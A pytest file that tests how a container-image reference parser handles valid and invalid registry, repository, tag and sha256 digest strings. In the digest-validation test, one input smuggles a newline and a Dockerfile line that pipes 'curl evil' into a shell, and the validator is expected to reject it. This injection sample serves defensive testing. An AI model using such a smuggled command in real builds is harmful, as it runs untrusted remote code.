"""Reference grammar: a table of valid and invalid references, as distribution/reference normalises them."""

from __future__ import annotations

import pytest

from pin_images.errors import InvalidReferenceError
from pin_images.reference import is_sha256_digest, parse, split_domain

D = "sha256:" + "ab" * 32

VALID = [
    # (text, registry, repository, tag, digest)
    ("python", "docker.io", "library/python", None, None),
    ("python:3.12", "docker.io", "library/python", "3.12", None),
    ("python:3.12-slim-bookworm", "docker.io", "library/python", "3.12-slim-bookworm", None),
    ("library/python:3", "docker.io", "library/python", "3", None),
    ("bitnami/redis:7.2", "docker.io", "bitnami/redis", "7.2", None),
    ("docker.io/python", "docker.io", "library/python", None, None),
    ("docker.io/library/python:3", "docker.io", "library/python", "3", None),
    # The legacy Hub name normalises to docker.io.
    ("index.docker.io/library/python:3", "docker.io", "library/python", "3", None),
    ("index.docker.io/python", "docker.io", "library/python", None, None),
    ("gcr.io/distroless/static:nonroot", "gcr.io", "distroless/static", "nonroot", None),
    ("ghcr.io/owner/img:v1.2.3", "ghcr.io", "owner/img", "v1.2.3", None),
    ("europe-docker.pkg.dev/proj/repo/app:1", "europe-docker.pkg.dev", "proj/repo/app", "1", None),
    ("mcr.microsoft.com/dotnet/sdk:8.0", "mcr.microsoft.com", "dotnet/sdk", "8.0", None),
    ("public.ecr.aws/lambda/python:3.12", "public.ecr.aws", "lambda/python", "3.12", None),
    # host:port/repo:tag: the port's ':' is not a tag separator (the seed got this wrong).
    ("localhost:5000/app:1", "localhost:5000", "app", "1", None),
    ("localhost:5000/app", "localhost:5000", "app", None, None),
    ("127.0.0.1:41234/a/b/c:tag", "127.0.0.1:41234", "a/b/c", "tag", None),
    ("registry.example.com:443/team/app:2024.01", "registry.example.com:443", "team/app", "2024.01", None),
    # "localhost" is a domain even without a dot or port.
    ("localhost/app:1", "localhost", "app", "1", None),
    # An uppercase first component is a domain.
    ("Registry/app", "Registry", "app", None, None),
    ("[::1]:5000/app:1", "[::1]:5000", "app", "1", None),
    # Separators: '.', '_', '__', one or more '-'.
    ("a/b.c_d__e---f:t", "docker.io", "a/b.c_d__e---f", "t", None),
    ("python@" + D, "docker.io", "library/python", None, D),
    ("python:3.12@" + D, "docker.io", "library/python", "3.12", D),
    ("localhost:5000/app:1@" + D, "localhost:5000", "app", "1", D),
    ("localhost:5000/app@" + D, "localhost:5000", "app", None, D),
    # Tag may start with '_' or a digit and contain '.', '-'.
    ("x:_a.b-c", "docker.io", "library/x", "_a.b-c", None),
    ("x:" + "a" * 128, "docker.io", "library/x", "a" * 128, None),
]


@pytest.mark.parametrize(("text", "registry", "repository", "tag", "digest"), VALID)
def test_valid_references(text, registry, repository, tag, digest):
    ref = parse(text)
    assert (ref.registry, ref.repository, ref.tag, ref.digest) == (registry, repository, tag, digest)
    assert ref.original == text
    assert str(ref) == text


INVALID = [
    ("", "empty"),
    ("Python:3", "lowercase"),
    ("docker.io/Library/python", "lowercase"),
    ("a:b:c", "':'"),
    ("python:", "empty tag"),
    ("python:.x", "tag"),
    ("python:-x", "tag"),
    ("python:" + "a" * 129, "tag"),
    ("python:3 ", "whitespace"),
    ("py thon", "whitespace"),
    ("python@", "empty digest"),
    ("python@sha256:abc", "algorithm:hex"),
    # Other algorithms are valid grammar but never pinned.
    ("python@sha512:" + "a" * 128, "only sha256"),
    ("python@sha256:" + "A" * 64, "lowercase hex"),
    ("python@sha256:" + "a" * 63 + "g", "algorithm:hex"),
    ("python@" + D + "@" + D, "more than one"),
    ("-python", "path components"),
    ("python-", "path components"),
    ("a//b", "path components"),
    ("a/", "path components"),
    ("/a", "path components"),
    ("a..b", "path components"),
    ("localhost:port/app", "host[:port]"),
    ("-bad.host/app", "host[:port]"),
    ("$BASE", "path components"),
    ("a/" + "b" * 260, "longer than 255"),
]


@pytest.mark.parametrize(("text", "cause"), INVALID)
def test_invalid_references(text, cause):
    with pytest.raises(InvalidReferenceError) as info:
        parse(text)
    message = str(info.value)
    assert cause in message
    assert repr(text) in message
    assert "\n" not in message


@pytest.mark.parametrize(
    ("text", "normalized"),
    [
        ("python", "docker.io/library/python:latest"),
        ("python:3", "docker.io/library/python:3"),
        ("python@" + D, "docker.io/library/python@" + D),
        ("python:3@" + D, "docker.io/library/python:3@" + D),
        ("localhost:5000/a", "localhost:5000/a:latest"),
    ],
)
def test_normalized(text, normalized):
    assert parse(text).normalized == normalized


def test_lookup_prefers_tag_then_digest_then_latest():
    assert parse("a:1@" + D).lookup == "1"
    assert parse("a@" + D).lookup == D
    assert parse("a").lookup == "latest"


def test_without_digest_keeps_the_users_spelling():
    assert parse("index.docker.io/python:3@" + D).without_digest == "index.docker.io/python:3"


@pytest.mark.parametrize(
    ("name", "split"),
    [
        ("ubuntu", ("docker.io", "ubuntu")),
        ("foo/bar", ("docker.io", "foo/bar")),
        ("foo.com/bar", ("foo.com", "bar")),
        ("foo:1/bar", ("foo:1", "bar")),
        ("localhost/bar", ("localhost", "bar")),
        ("Foo/bar", ("Foo", "bar")),
    ],
)
def test_split_domain(name, split):
    assert split_domain(name) == split


@pytest.mark.parametrize(
    ("value", "ok"),
    [(D, True), ("sha256:" + "a" * 64, True), ("sha256:" + "a" * 63, False), ("sha256:" + "A" * 64, False),
     (D + "\n", False), ("sha256:abc\nRUN curl evil | sh", False), ("sha512:" + "a" * 64, False)],
)
def test_is_sha256_digest(value, ok):
    assert is_sha256_digest(value) is ok
